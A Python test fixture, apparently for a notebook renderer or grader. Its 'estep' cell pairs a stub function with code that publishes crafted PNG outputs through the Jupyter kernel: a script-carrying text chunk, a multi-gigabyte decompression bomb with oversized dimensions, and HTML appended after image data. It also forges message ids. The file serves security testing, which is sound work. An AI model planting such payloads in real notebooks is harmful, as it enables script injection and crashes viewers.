"""Displays real PNG files that carry scripts in their text chunks, are followed by HTML, or unpack to gigabytes."""

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import base64
import struct
import zlib

kernel = get_ipython().kernel


def publish(kind, content, parent=None, **more):
    parent = kernel.get_parent("shell") if parent is None else parent
    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=kind.encode(), **more)


def later(count=60):
    header = kernel.get_parent("shell")["header"]
    start, _, number = header["msg_id"].rpartition("_")
    for step in range(1, count):
        yield {"header": header | {"msg_id": f"{start}_{int(number) + step}"}}


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, rows):
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    text = chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + text + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


packer = zlib.compressobj(9)
bomb = b"".join(packer.compress(bytes(12_501)) for _ in range(100_000)) + packer.flush()
pictures = png(100_000, 100_000, bomb), png(2**31 - 1, 2**31 - 1, b""), png(1, 1, b"") + b"<script>alert(1)</script>"
for picture in pictures:
    text = base64.b64encode(picture).decode()
    publish("display_data", {"data": {"image/png": text, "text/plain": "picture"}, "metadata": {}})
""",
}
